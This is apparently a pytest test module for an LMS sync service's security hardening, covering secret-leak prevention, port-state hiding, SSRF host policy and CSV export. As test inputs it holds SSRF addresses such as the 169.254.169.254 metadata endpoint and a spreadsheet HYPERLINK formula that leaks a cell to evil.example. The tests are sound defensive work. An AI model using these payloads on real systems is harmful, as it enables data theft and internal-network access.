"""The hardening of the LMS interface, end to end through the API, the pages and the CLI:

- what an LMS answers never brings the stored secret back (an "echo" server that returns the
  request's headers: Test connection, run outcomes, LMS states, logs);
- connection failures do not tell open ports from closed ones;
- a new URL or authentication needs the secret again;
- the operator's host policy, when saving and when connecting (after DNS);
- the settings form keeps (and shows) the deactivation guard's values;
- the plan CSV neutralises formulas.
"""

from __future__ import annotations

import base64
import csv
import io
import json
import logging
import re
import socket
import struct
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any
from urllib.parse import quote

import pytest
import structlog
from fastapi.testclient import TestClient
from sqlalchemy import Engine, text
from typer.testing import CliRunner

from lmsync.lms.scim import (
    CORE_USER,
    DEFAULT_EXTENSION_ATTRIBUTES,
    DEFAULT_EXTENSION_URN,
    ENTERPRISE_USER,
)
from lmsync.log_config import configure as configure_logs
from lmsync.settings import Settings
from lmsync.web.app import create_app
from tests.api.test_pages import sign_in
from tests.conftest import World
from tests.db.test_cli import run
from tests.integration.conftest import Harness, LmsProcess

SECRET = "echo-S3cr3t/+Tok=x"
USER = "svc-lms"
ERROR_URN = "urn:ietf:params:scim:api:messages:2.0:Error"
LIST_URN = "urn:ietf:params:scim:api:messages:2.0:ListResponse"
NOT_ALLOWED = "this LMS address is not allowed by the server's configuration"
SETTINGS_PAGE = "/settings/interfaces/lms"


def secret_forms() -> list[str]:
    basic = base64.b64encode(f"{USER}:{SECRET}".encode()).decode()
    return [SECRET, quote(SECRET, safe=""), basic, basic.rstrip("="), SECRET[:8]]


def assert_no_secret(text: str) -> None:
    for form in secret_forms():
        assert form not in text, f"{form!r} leaked in {text!r}"


# --- an LMS that echoes what it receives ---------------------------------------------------------

# What a server that passes Test connection publishes (activation runs the test first).
DISCOVERY: dict[str, dict[str, Any]] = {
    "ServiceProviderConfig": {
        "schemas": ["urn:ietf:params:scim:schemas:core:2.0:ServiceProviderConfig"],
        "patch": {"supported": True},
        "filter": {"supported": True, "maxResults": 200},
    },
    "Schemas": {
        "schemas": [LIST_URN],
        "totalResults": 2,
        "Resources": [
            {"id": CORE_USER, "attributes": [{"name": "userName"}]},
            {
                "id": DEFAULT_EXTENSION_URN,
                "attributes": [{"name": n} for n in DEFAULT_EXTENSION_ATTRIBUTES.values()],
            },
        ],
    },
    "ResourceTypes": {
        "schemas": [LIST_URN],
        "totalResults": 1,
        "Resources": [
            {
                "name": "User",
                "schemaExtensions": [
                    {"schema": DEFAULT_EXTENSION_URN},
                    {"schema": ENTERPRISE_USER},
                ],
            }
        ],
    },
}


@dataclass
class Echo:
    """A local HTTP server answering with the request's headers (credentials first) and body.

    ``answers`` by method ("*": any other): ("html", status) an HTML page, ("scim", status) a SCIM
    error document whose detail and scimType are the echo, ("json", status) other JSON holding
    it, ("list", 200) an empty SCIM list, and the discovery documents of a server that passes
    Test connection (a server that works for reading)."""

    base_url: str
    answers: dict[str, tuple[str, int]] = field(default_factory=lambda: {"*": ("html", 404)})
    received: list[str] = field(default_factory=list)


def _echo_handler(echo: Echo) -> type[BaseHTTPRequestHandler]:
    class Handler(BaseHTTPRequestHandler):
        def _answer(self) -> None:
            length = int(self.headers.get("Content-Length") or 0)
            body = self.rfile.read(length).decode(errors="replace")
            credentials = ("authorization", "x-lms-key")
            headers = sorted(self.headers.items(), key=lambda kv: kv[0].lower() not in credentials)
            received = "".join(f"{k}: {v}\n" for k, v in headers)
            received += f"{self.command} {self.path}\n{body}"
            echo.received.append(received)
            kind, status = echo.answers.get(self.command, echo.answers["*"])
            if kind == "html":
                payload, content_type = f"<html><pre>{received}</pre></html>", "text/html"
            elif kind == "scim":
                document = {
                    "schemas": [ERROR_URN],
                    "status": str(status),
                    "detail": received,
                    "scimType": received,
                }
                payload, content_type = json.dumps(document), "application/scim+json"
            elif kind == "json":
                payload, content_type = json.dumps({"echo": received}), "application/json"
            else:
                empty = {"schemas": [LIST_URN], "totalResults": 0, "Resources": []}
                document = DISCOVERY.get(self.path.rsplit("/", 1)[-1], empty)
                payload, content_type = json.dumps(document), "application/scim+json"
            data = payload.encode()
            self.send_response(status)
            self.send_header("Content-Type", content_type)
            self.send_header("Content-Length", str(len(data)))
            self.end_headers()
            self.wfile.write(data)

        do_GET = do_POST = do_PUT = do_PATCH = do_DELETE = _answer  # noqa: N815 - http.server's names

        def log_message(self, format: str, *args: Any) -> None:
            pass

    return Handler


@pytest.fixture
def echo() -> Iterator[Echo]:
    server = ThreadingHTTPServer(("127.0.0.1", 0), BaseHTTPRequestHandler)
    state = Echo(base_url=f"http://127.0.0.1:{server.server_address[1]}/scim/v2")
    server.RequestHandlerClass = _echo_handler(state)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield state
    server.shutdown()
    server.server_close()
    thread.join()


@pytest.fixture
def logs(caplog: pytest.LogCaptureFixture) -> Iterator[io.StringIO]:
    """Everything logged meanwhile: lmsync's structured log lines (exceptions rendered) and the
    standard library's records (httpx's included)."""
    buffer = io.StringIO()
    saved = structlog.get_config()
    configure_logs("DEBUG", json=True)
    structlog.configure(logger_factory=structlog.PrintLoggerFactory(buffer))
    caplog.set_level(logging.DEBUG)
    try:
        yield buffer
    finally:
        structlog.configure(**saved)
        buffer.write("\n".join(record.getMessage() for record in caplog.records))


def put(harness: Harness, **body: Any) -> Any:
    return harness.client.put("/api/v1/lms/interface", json=body, headers=harness.mhr)


def findings_of(client: TestClient, headers: dict[str, str]) -> list[dict[str, str]]:
    """Test connection, through the API."""
    response = client.post("/api/v1/lms/interface/test", headers=headers)
    assert response.status_code == 200, response.text
    findings: list[dict[str, str]] = response.json()["findings"]
    return findings


AUTHS: list[dict[str, Any]] = [
    {"auth_type": "bearer"},
    {"auth_type": "api_key", "auth_header": "X-Lms-Key"},
    {"auth_type": "basic", "username": USER},
]


# --- echoed credentials --------------------------------------------------------------------------


@pytest.mark.parametrize("auth", AUTHS, ids=lambda a: a["auth_type"])
@pytest.mark.parametrize(
    "answer",
    [("html", 404), ("html", 500), ("scim", 401), ("scim", 400), ("json", 403)],
    ids=lambda a: f"{a[0]}-{a[1]}",
)
def test_connection_findings_never_show_the_echoed_secret(
    harness: Harness, echo: Echo, auth: dict[str, Any], answer: tuple[str, int]
) -> None:
    echo.answers = {"*": answer}
    assert put(harness, base_url=echo.base_url, secret=SECRET, **auth).status_code == 200

    findings = findings_of(harness.client, harness.mhr)

    assert echo.received, "the echo server was not reached"
    assert any(SECRET in r or "Basic" in r for r in echo.received)  # it did echo the secret
    for finding in findings:
        assert_no_secret(finding["message"])
        assert "User-Agent" not in finding["message"]  # nor any header we sent
        assert "<pre>" not in finding["message"]
    assert findings[0]["level"] == "error"
    assert f"HTTP status {answer[1]}" in findings[0]["message"]


def test_the_test_connection_page_never_shows_the_echoed_secret(
    harness: Harness, echo: Echo
) -> None:
    echo.answers = {"*": ("scim", 401)}
    assert put(harness, base_url=echo.base_url, secret=SECRET).status_code == 200
    csrf = sign_in(harness.client, "mhr_a@example.com")

    page = harness.client.post(f"{SETTINGS_PAGE}/test", headers={"X-CSRF-Token": csrf})

    assert page.status_code == 200
    assert_no_secret(page.text)
    assert "User-Agent" not in page.text
    assert "refused the credentials" in page.text


def test_runs_states_and_logs_never_keep_the_echoed_secret(
    harness: Harness, echo: Echo, engine: Engine, logs: io.StringIO
) -> None:
    employees = [harness.hire(f"E-{n}", f"echo{n}@example.com") for n in range(3)]
    echo.answers = {"GET": ("list", 200), "*": ("scim", 400)}  # reads work, creates fail
    assert put(harness, base_url=echo.base_url, secret=SECRET).status_code == 200

    activation = harness.activate()
    echo.answers = {"GET": ("list", 200), "*": ("scim", 401)}  # now the credentials "fail"
    refused = harness.sync(full=True)

    assert any(r.startswith("Authorization: Bearer " + SECRET) for r in echo.received)
    viewer = World.auth(harness.world.viewer_a)
    runs = [
        harness.client.get(f"/api/v1/lms/runs/{finished['id']}", headers=viewer)
        for finished in (activation, refused)
    ]
    states = [
        harness.client.get(f"/api/v1/employees/{employee['id']}/lms", headers=viewer)
        for employee in employees
    ]
    texts = [response.text for response in runs + states]
    with engine.connect() as conn:
        texts += [str(v) for v in conn.scalars(text("SELECT reason FROM sync_outcomes"))]
        texts += [str(v) for v in conn.scalars(text("SELECT reason FROM lms_states"))]
        texts += [str(v) for v in conn.scalars(text("SELECT message FROM sync_runs"))]
    texts.append(logs.getvalue())
    for piece in texts:
        assert_no_secret(piece)
        assert "User-Agent" not in piece

    assert all(response.status_code == 200 for response in runs + states)
    assert "sync failed" in logs.getvalue()  # the log was captured
    outcomes = runs[0].json()["outcomes"]["items"]
    assert len(outcomes) == 3
    assert all("HTTP status 400" in o["reason"] for o in outcomes)
    assert [s.json()["state"] for s in states] == ["error"] * 3
    assert refused["status"] == "failed"
    assert "refused the credentials" in (refused["message"] or "")


# --- connection failures tell no port apart ------------------------------------------------------


class RudePort:
    """An open TCP port with no HTTP server behind it: each connection is reset at once, or gets
    a greeting of another protocol and is closed."""

    def __init__(self, greeting: bytes | None) -> None:
        self.greeting = greeting
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.sock.settimeout(0.1)  # closing does not wake a blocked accept(): poll instead
        self.port = self.sock.getsockname()[1]
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while not self.stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except TimeoutError:
                continue
            with conn:
                if self.greeting is None:
                    # Linger 0: close with a reset instead of a clean end.
                    conn.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
                else:
                    conn.sendall(self.greeting)

    def close(self) -> None:
        self.stop.set()
        self.thread.join()
        self.sock.close()


def closed_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        port: int = sock.getsockname()[1]
    return port


def test_connection_failures_do_not_tell_open_ports_from_closed_ones(harness: Harness) -> None:
    reset, ssh = RudePort(None), RudePort(b"SSH-2.0-OpenSSH_9.6\r\n")
    try:
        seen = {}
        for name, port in [("closed", closed_port()), ("reset", reset.port), ("ssh", ssh.port)]:
            url = f"http://127.0.0.1:{port}/scim/v2"
            assert put(harness, base_url=url, secret=SECRET).status_code == 200
            seen[name] = findings_of(harness.client, harness.mhr)
    finally:
        reset.close()
        ssh.close()

    expected = "ServiceProviderConfig: GET /ServiceProviderConfig: cannot connect to the LMS"
    assert seen == {name: [{"level": "error", "message": expected}] for name in seen}


# --- a new address or authentication needs the secret again -----------------------------------


def test_a_new_url_or_authentication_needs_the_secret_again(harness: Harness, echo: Echo) -> None:
    lms_url = harness.lms.base_url
    for body in [
        {"base_url": echo.base_url},
        {"base_url": lms_url, "auth_type": "api_key", "auth_header": "X-Echo"},
        {"base_url": lms_url, "auth_type": "basic", "username": "someone"},
    ]:
        refused = put(harness, **body)
        assert refused.status_code == 422, body
        assert [e["field"] for e in refused.json()["errors"]] == ["secret"]
        assert "enter the secret again" in refused.json()["errors"][0]["message"]
    stored = harness.client.get("/api/v1/lms/interface", headers=harness.mhr).json()
    assert (stored["base_url"], stored["auth_type"]) == (lms_url, "bearer")
    assert findings_of(harness.client, harness.mhr)[-1]["level"] == "ok"
    assert echo.received == []  # the secret never went to the new address

    assert put(harness, base_url=lms_url, hourly_transfer=False).status_code == 200  # same place
    assert put(harness, base_url=lms_url, secret="").status_code == 200  # clearing is fine
    assert put(harness, base_url=echo.base_url).status_code == 200  # nothing stored to move
    assert put(harness, base_url=lms_url, secret=harness.lms.token).status_code == 200


def test_the_settings_form_asks_for_the_secret_again(harness: Harness, echo: Echo) -> None:
    csrf = sign_in(harness.client, "mhr_a@example.com")

    page = harness.client.post(
        SETTINGS_PAGE, data={"csrf_token": csrf, "base_url": echo.base_url, "auth_type": "bearer"}
    )

    assert page.status_code == 422
    error = re.search(r'<div class="field-error" id="e-secret">([^<]+)</div>', page.text)
    assert error is not None
    assert "enter the secret again" in error.group(1)
    stored = harness.client.get("/api/v1/lms/interface", headers=harness.mhr).json()
    assert stored["base_url"] == harness.lms.base_url


def test_the_cli_asks_for_the_secret_again(
    harness: Harness, echo: Echo, settings: Settings, monkeypatch: pytest.MonkeyPatch
) -> None:
    assert settings.database_url is not None
    monkeypatch.setenv("LMSYNC_DATABASE_URL", settings.database_url)
    monkeypatch.setenv("LMSYNC_DATA_DIR", str(settings.data_dir))
    cli, account = CliRunner(), harness.world.account_a

    refused = run(cli, "lms", "configure", "--account", account, "--url", echo.base_url, code=1)

    assert "error: secret: the URL or the authentication changed" in refused
    assert "--secret-stdin" in refused
    run(cli, "lms", "configure", "--account", account, "--url", harness.lms.base_url)
    run(
        cli,
        *("lms", "configure", "--account", account, "--url", echo.base_url, "--secret-stdin"),
        input=SECRET + "\n",
    )
    stored = harness.client.get("/api/v1/lms/interface", headers=harness.mhr).json()
    assert stored["base_url"] == echo.base_url


# --- the operator's host policy ------------------------------------------------------------------


@pytest.mark.parametrize(
    "url",
    [
        "http://169.254.169.254/latest/meta-data",
        "http://[fe80::1]/scim",
        "http://[::ffff:169.254.169.254]/scim",
        "http://2852039166/scim",
    ],
)
def test_link_local_addresses_are_refused_when_saving(harness: Harness, url: str) -> None:
    refused = put(harness, base_url=url, secret=SECRET)

    assert refused.status_code == 422
    assert refused.json()["errors"] == [
        {"field": "base_url", "code": NOT_ALLOWED, "message": NOT_ALLOWED}
    ]


def test_loopback_denied_by_the_operator_is_refused_when_saving_and_after_dns(
    settings: Settings, world: World, lms: LmsProcess
) -> None:
    denied = "127.0.0.0/8,::1/128,0.0.0.0/8,169.254.0.0/16,fe80::/10"
    app = create_app(settings.model_copy(update={"lms_denied_hosts": denied}), run_worker=False)
    mhr = World.auth(world.mhr_a)
    with TestClient(app, raise_server_exceptions=False) as client:
        body = {"base_url": lms.base_url, "secret": lms.token}
        refused = client.put("/api/v1/lms/interface", json=body, headers=mhr)
        assert refused.status_code == 422
        assert refused.json()["errors"] == [
            {"field": "base_url", "code": NOT_ALLOWED, "message": NOT_ALLOWED}
        ]

        by_name = {**body, "base_url": lms.base_url.replace("127.0.0.1", "localhost")}
        assert client.put("/api/v1/lms/interface", json=by_name, headers=mhr).status_code == 200
        lms.reset_stats()
        findings = findings_of(client, mhr)

    assert findings == [{"level": "error", "message": f"ServiceProviderConfig: {NOT_ALLOWED}"}]
    assert sum(lms.stats()["requests"].values()) == 0


def test_a_host_name_reaches_the_lms_at_its_checked_address(harness: Harness) -> None:
    by_name = harness.lms.base_url.replace("127.0.0.1", "localhost")
    assert put(harness, base_url=by_name, secret=harness.lms.token).status_code == 200

    findings = findings_of(harness.client, harness.mhr)

    assert all(f["level"] != "error" for f in findings), findings
    assert any(f["message"] == "authentication accepted" for f in findings)


# --- the settings form and the deactivation guard ------------------------------------------------

GUARD = {"guard_percent": 25, "guard_minimum": 3, "guard_window_minutes": 120}


def guard_of(harness: Harness) -> dict[str, int]:
    stored = harness.client.get("/api/v1/lms/interface", headers=harness.mhr).json()
    return {name: stored[name] for name in GUARD}


def test_the_settings_form_keeps_and_shows_the_guard(harness: Harness) -> None:
    assert put(harness, base_url=harness.lms.base_url, **GUARD).status_code == 200
    csrf = sign_in(harness.client, "mhr_a@example.com")
    page = harness.client.get(SETTINGS_PAGE).text
    assert "Safety" in page
    for name, value in GUARD.items():
        assert re.search(rf'name="{name}"[^>]*\svalue="{value}"', page, re.S), name

    form = {"csrf_token": csrf, "base_url": harness.lms.base_url, "auth_type": "bearer"}
    saved = harness.client.post(SETTINGS_PAGE, data=form, follow_redirects=False)
    assert saved.status_code == 200  # the page itself, with the connection test
    assert "LMS interface saved." in saved.text
    assert guard_of(harness) == GUARD  # a form without the fields changes none of them

    too_short = {**form, "guard_percent": "30", "guard_minimum": "0", "guard_window_minutes": "2"}
    refused = harness.client.post(SETTINGS_PAGE, data=too_short)
    assert refused.status_code == 422
    error = re.search(r'id="e-guard_window_minutes">([^<]+)<', refused.text)
    assert error is not None
    assert error.group(1) == "must be at least 5"  # lmsync's words (domain.validation)
    assert guard_of(harness) == GUARD

    changed = {**too_short, "guard_window_minutes": "90"}
    saved = harness.client.post(SETTINGS_PAGE, data=changed, follow_redirects=False)
    assert saved.status_code == 200
    expected = {"guard_percent": 30, "guard_minimum": 0, "guard_window_minutes": 90}
    assert guard_of(harness) == expected
    assert re.search(
        r'name="guard_minimum"[^>]*\svalue="0"', harness.client.get(SETTINGS_PAGE).text
    )

    assert put(harness, base_url=harness.lms.base_url).status_code == 200
    assert guard_of(harness) == expected  # an API client that omits them keeps them too


def test_the_guard_window_is_kept_within_bounds_on_the_api(harness: Harness) -> None:
    for minutes in (5, 1440):
        assert put(harness, base_url=harness.lms.base_url, guard_window_minutes=minutes).is_success
        assert guard_of(harness)["guard_window_minutes"] == minutes
    for minutes in (4, 1441):
        refused = put(harness, base_url=harness.lms.base_url, guard_window_minutes=minutes)
        assert refused.status_code == 422
        assert [e["field"] for e in refused.json()["errors"]] == ["guard_window_minutes"]
    assert guard_of(harness)["guard_window_minutes"] == 1440


# --- the plan CSV ---------------------------------------------------------------------------------


def test_the_plan_csv_neutralises_formulas(harness: Harness) -> None:
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'
    harness.hire("-1+2", "formula@example.com", first_name=formula, last_name="@SUM(A1:A9)")
    preview = harness.client.post(
        "/api/v1/lms/interface/activate", json={"dry_run": True}, headers=harness.mhr
    )
    assert preview.status_code == 200, preview.text
    sign_in(harness.client, "mhr_a@example.com")

    plan = harness.client.get(f"/sync/{preview.json()['run_id']}/plan.csv")

    assert plan.status_code == 200
    header, row = list(csv.reader(io.StringIO(plan.text)))
    cells = dict(zip(header, row, strict=True))
    assert cells["lms.first_name"] == "'" + formula  # the fields the row writes, too
    assert cells["lms.last_name"] == "'@SUM(A1:A9)"
    assert {k: v for k, v in cells.items() if not k.startswith("lms.")} | {"reason": ""} == {
        "employee_number": "'-1+2",
        "first_name": "'" + formula,
        "last_name": "'@SUM(A1:A9)",
        "work_email": "formula@example.com",
        "action": "create",
        "outcome": "planned",
        "reason": "",
        "lms_user_id": "",
    }
